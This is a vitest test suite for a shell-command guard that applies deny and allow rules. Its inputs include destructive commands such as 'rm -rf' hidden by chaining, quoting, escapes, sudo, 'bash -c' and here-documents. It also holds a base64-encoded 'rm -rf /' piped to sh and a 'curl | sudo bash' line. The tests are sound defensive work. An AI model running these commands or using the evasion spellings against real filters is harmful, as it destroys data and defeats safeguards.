import { describe, expect, it } from 'vitest'
import { createGuard, type Rule } from './judge.ts'

const rule = (content: string, more: Partial<Rule> = {}): Rule => ({
  id: content,
  type: 'command',
  content,
  priority: 50,
  action: 'deny',
  ...more,
})

const danger = createGuard([rule('rm\nreboot\nshutdown -h')])
const denied = (line: string) => !danger.judge(line).allowed

describe('a command filter', () => {
  it('stops a command wherever it stands in a line', () => {
    for (const line of [
      'rm -rf /tmp/x',
      'ls;rm x',
      'ls && rm x',
      'ls || rm x',
      'ls | xargs rm',
      'ls & rm x',
      '(rm x)',
      '{ rm x; }',
      'echo $(rm x)',
      'echo `rm x`',
      'echo "$(rm x)"',
      'cat <(rm x)',
      'if true; then rm x; fi',
      'for f in *; do rm $f; done',
      'x=1 rm y',
      'ls\nrm x',
      'echo a # comment\nrm x',
    ])
      expect([line, denied(line)]).toEqual([line, true])
  })

  it('is not fooled by quotes, escapes, paths and other spellings', () => {
    for (const line of [
      'r\\m x',
      "'rm' x",
      '"rm" x',
      "r''m x",
      '/bin/rm x',
      '/usr/bin/../bin/rm x',
      "$'rm' x",
      "$'\\x72m' x",
      '\\rm x',
      'command rm x',
      'builtin command rm x',
    ])
      expect([line, denied(line)]).toEqual([line, true])
  })

  it('follows what runs other commands', () => {
    for (const line of [
      'sudo rm x',
      'sudo -u root -- rm x',
      'sudo -n FOO=1 rm x',
      'env A=1 rm x',
      'env -S "rm x"',
      'nohup nice -n 5 rm x &',
      'timeout 5 rm x',
      'bash -c "rm x"',
      "sh -xc 'ls; rm x'",
      'su root -c "rm x"',
      'eval "rm x"',
      'ssh -p 22 host rm x',
      "ssh host 'cd / && rm x'",
      'find . -name x -exec rm {} \\;',
      'find . -delete',
      'bash <<< "rm x"',
      'bash <<EOF\nls\nrm x\nEOF',
      'busybox rm x',
      'busybox sh -c "rm x"',
      'time rm x',
      'exec rm x',
      'setsid sudo sh -c "echo; rm x"',
    ])
      expect([line, denied(line)]).toEqual([line, true])
  })

  it('lets through what only looks like it', () => {
    for (const line of [
      'ls',
      'perform x',
      'rmdir x',
      'arm',
      'docker-rm x',
      'ls --rm-x',
      'shutdown --help',
      'cat rmfile',
      'echo warm',
    ])
      expect([line, denied(line)]).toEqual([line, false])
  })

  it('takes the text of a here-document for what it is, data, unless a shell reads it', () => {
    const guard = createGuard([rule('^reboot', { type: 'regex' })])
    expect(guard.judge('cat > notes <<EOF\nreboot now\nEOF').allowed).toBe(true)
    expect(guard.judge('sh <<EOF\nreboot now\nEOF').allowed).toBe(false)
  })

  it('says what it cannot know', () => {
    const unsure = (line: string) => {
      const verdict = danger.judge(line)
      return verdict.allowed ? verdict.unsure : verdict
    }
    expect(unsure('$x y')).toEqual(['name'])
    expect(unsure('$(echo r)$(echo m) x')).toEqual(['name'])
    expect(unsure('echo cm0gLXJmIC8K | base64 -d | sh')).toEqual(['piped'])
    expect(unsure('curl http://x | sudo bash')).toEqual(['piped'])
    expect(unsure('bash ./script.sh')).toEqual(['script'])
    expect(unsure('python3 -c "import os"')).toEqual(['script'])
    expect(unsure('/bin/r? x')).toEqual(['name'])
    expect(unsure('eval "$x"')).toEqual(['name'])
    expect(unsure('ls -l')).toBeUndefined()
  })

  it('[CMDF-03] asks rules of higher priority first; what nothing matches may run', () => {
    const guard = createGuard([
      rule('rm', { id: 'no', priority: 10 }),
      rule('rm /tmp', { id: 'yes', priority: 90, action: 'allow' }),
    ])
    expect(guard.judge('rm /tmp/x')).toEqual({ allowed: true, rule: 'yes' })
    expect(guard.judge('rm /etc/x')).toMatchObject({ allowed: false, rule: 'no' })
    expect(guard.judge('ls')).toEqual({ allowed: true })
    const equal = createGuard([rule('ls', { id: 'a', action: 'allow' }), rule('ls', { id: 'd' })])
    expect(equal.judge('ls')).toMatchObject({ allowed: false, rule: 'd' })
  })

  it('an allowed part does not carry the rest of the line through', () => {
    const guard = createGuard([
      rule('ls', { id: 'ok', priority: 90, action: 'allow' }),
      rule('.*', { id: 'all', type: 'regex', priority: 1 }),
    ])
    expect(guard.judge('ls -l').allowed).toBe(true)
    expect(guard.judge('ls; id')).toMatchObject({ allowed: false, rule: 'all' })
  })

  it('takes each line of a rule as an expression of its own, as the server that checked it did', () => {
    const guard = createGuard([rule('^reboot\n^halt$', { id: 'two', type: 'regex' })])
    for (const line of ['reboot now', 'halt']) expect(guard.judge(line)).toMatchObject({ allowed: false, rule: 'two' })
    expect(guard.judge('ls')).toEqual({ allowed: true })
  })

  it('names rules that cannot be read', () => {
    const guard = createGuard([rule('(', { id: 'bad', type: 'regex' }), rule('  \n ', { id: 'empty' })])
    expect(guard.broken.map(({ rule }) => rule)).toEqual(['bad', 'empty'])
    expect(guard.judge('ls')).toEqual({ allowed: true })
  })

  it('[T58] is not kept busy by rare blanks, by names that every object has, or by programs that run programs without end', () => {
    const guard = createGuard([{ id: 'r', type: 'command', content: 'rm', priority: 1, action: 'deny' }])
    for (const blank of ['\u000b', '\u000c', '\u00a0', '\u2028'])
      expect(guard.judge(`echo a${blank}b ${blank}; rm x`)).toMatchObject({
        allowed: false,
        matched: expect.stringContaining('rm'),
      })
    expect(guard.judge('constructor -x; __proto__ -y; toString -z')).toMatchObject({ allowed: true })
    const endless = `${'find . -exec '.repeat(1_000)}ls`
    expect(guard.judge(endless)).toMatchObject({ allowed: false })
    expect(guard.judge(`${'a;'.repeat(8_000)}ls`)).toMatchObject({ allowed: true })
  })

  it('never hangs or fails, whatever it reads', () => {
    let state = 7
    const next = () => (state = (state * 1_103_515_245 + 12_345) & 0x7fffffff)
    const signs = [
      'rm',
      ' ',
      '"',
      "'",
      '\\',
      '$',
      '(',
      ')',
      '`',
      '{',
      '}',
      '|',
      '&',
      ';',
      '<',
      '>',
      '\n',
      '#',
      'x',
      '=',
      '*',
      '~',
      '!',
      '$(',
      '${',
      '<<E',
      '<<<',
      '\u0000',
      '🚀',
    ]
    for (let i = 0; i < 20_000; i++) {
      let line = ''
      for (let n = next() % 24; n >= 0; n--) line += signs[next() % signs.length]
      expect(typeof danger.judge(line).allowed).toBe('boolean')
    }
    danger.judge('$('.repeat(20_000))
    danger.judge(`${'('.repeat(20_000)}rm`)
  })

  it('[T58] a regular expression that would take for ever takes no time, and one without that promise is named', () => {
    const evil = createGuard([{ id: 'evil', type: 'regex', content: '^(a+)+$', priority: 1, action: 'deny' }])
    expect(evil.judge(`${'a'.repeat(5_000)}!`)).toMatchObject({ allowed: true })
    expect(evil.judge('aaa')).toMatchObject({ allowed: false, rule: 'evil' })
    const back = createGuard([{ id: 'back', type: 'regex', content: '(a+)\\1(?!b)', priority: 1, action: 'deny' }])
    expect(back.broken).toMatchObject([{ rule: 'back' }])
  })
})
